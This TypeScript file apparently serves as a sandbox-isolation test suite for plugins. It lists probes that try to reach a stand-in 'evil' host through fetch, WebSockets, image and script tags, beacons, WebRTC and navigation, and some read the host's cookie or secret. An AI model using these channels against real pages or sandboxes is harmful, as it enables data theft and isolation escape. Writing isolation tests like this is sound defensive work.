/** Where a probe tries to get to. */
export interface ProbeTargets {
  readonly evil: string;
  readonly host: string;
  readonly udpPort: number;
}

export interface Probe {
  /** Where the control must succeed: a worker of the host's own origin, or a window. */
  readonly realm: 'worker' | 'window';
  /** What proves success: a request seen outside, the host's cookie sent, or an answer that begins with GOT. */
  readonly proof: 'hit' | 'cookie' | 'got';
  /** Leaves the window it runs in. */
  readonly destroys?: boolean;
  run(targets: ProbeTargets): unknown;
}

const wait = (milliseconds: number): Promise<void> =>
  new Promise((resolve) => setTimeout(resolve, milliseconds));
const got = async (value: unknown): Promise<string> => `GOT ${String(await value)}`;
const append = (tag: string, attributes: Record<string, string>): Promise<void> => {
  document.documentElement.append(Object.assign(document.createElement(tag), attributes));
  return wait(400);
};

/** Every way out we know of. All must be closed to a plugin; all must be open to the control. */
export const PROBES: Readonly<Record<string, Probe>> = {
  fetch: { realm: 'worker', proof: 'hit', run: ({ evil }) => fetch(`${evil}/fetch`) },
  fetchHostWithCookies: {
    realm: 'worker',
    proof: 'cookie',
    run: ({ host }) => fetch(`${host}/secret`, { credentials: 'include' }),
  },
  xhr: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/xhr`);
      request.send();
      return wait(400);
    },
  },
  webSocket: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      new WebSocket(`${evil.replace('http', 'ws')}/ws`);
      return wait(400);
    },
  },
  eventSource: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      new EventSource(`${evil}/sse`);
      return wait(400);
    },
  },
  dynamicImport: { realm: 'worker', proof: 'hit', run: ({ evil }) => import(`${evil}/import.js`) },
  importScripts: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => callGlobal('importScripts', `${evil}/scripts.js`),
  },
  nestedWorker: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      const code = new Blob([`fetch('${evil}/nested-worker')`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(code));
      return wait(600);
    },
  },
  indexedDb: {
    realm: 'worker',
    proof: 'got',
    run: () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('probe');
        request.onsuccess = () => {
          resolve('GOT');
        };
        request.onerror = () => {
          reject(request.error ?? new Error('no database'));
        };
      }),
  },
  caches: { realm: 'worker', proof: 'got', run: () => got(caches.open('probe')) },
  originPrivateFiles: { realm: 'worker', proof: 'got', run: () => got(navigator.storage.getDirectory()) },
  locks: { realm: 'worker', proof: 'got', run: () => got(navigator.locks.query()) },
  eval: {
    realm: 'worker',
    proof: 'got',
    run: () => got(callGlobal('eval', '1+1')),
  },
  functionConstructor: {
    realm: 'worker',
    proof: 'got',
    run: () => got(Reflect.apply(Reflect.construct(Function, ['return 2']), null, [])),
  },
  wasm: {
    realm: 'worker',
    proof: 'got',
    run: () => got(WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  },
  parentDom: { realm: 'window', proof: 'got', run: () => got(parent.document.title) },
  cookie: {
    realm: 'window',
    proof: 'got',
    run: () => got(document.cookie.match(/HOSTSECRET/)?.[0] ?? fail()),
  },
  localStorage: { realm: 'window', proof: 'got', run: () => got(localStorage.length) },
  image: { realm: 'window', proof: 'hit', run: ({ evil }) => append('img', { src: `${evil}/img?leak=1` }) },
  script: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('script', { src: `${evil}/script.js` }),
  },
  stylesheet: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
  },
  preload: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('link', { rel: 'preload', as: 'script', href: `${evil}/preload.js` }),
  },
  beacon: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => (navigator.sendBeacon(`${evil}/beacon`, 'x'), wait(400)),
  },
  frame: { realm: 'window', proof: 'hit', run: ({ evil }) => append('iframe', { src: `${evil}/frame` }) },
  nestedDocument: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('iframe', { srcdoc: `<img src="${evil}/nested-document">` }),
  },
  webRtc: {
    realm: 'window',
    proof: 'hit',
    run: async ({ udpPort }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await wait(1_000);
    },
  },
  selfNavigation: {
    realm: 'window',
    proof: 'hit',
    destroys: true,
    run: ({ evil }) => {
      location.href = `${evil}/navigation?leak=1`;
    },
  },
  metaRefresh: {
    realm: 'window',
    proof: 'hit',
    destroys: true,
    run: ({ evil }) => append('meta', { httpEquiv: 'refresh', content: `0;url=${evil}/meta` }),
  },
};

function fail(): never {
  throw new Error('nothing there');
}

/** Not called by its name, so that a compiler does not change what it means. */
function callGlobal(name: string, ...args: unknown[]): unknown {
  const found: unknown = Reflect.get(globalThis, name);
  if (typeof found !== 'function') throw new TypeError(`${name} is gone`);
  return Reflect.apply(found, globalThis, args);
}

/** Runs a probe; an answer that begins with GOT means it reached something. */
export async function runProbe(name: string, targets: ProbeTargets): Promise<string> {
  try {
    return String(await PROBES[name]?.run(targets));
  } catch (error) {
    return `blocked: ${String(error)}`;
  }
}
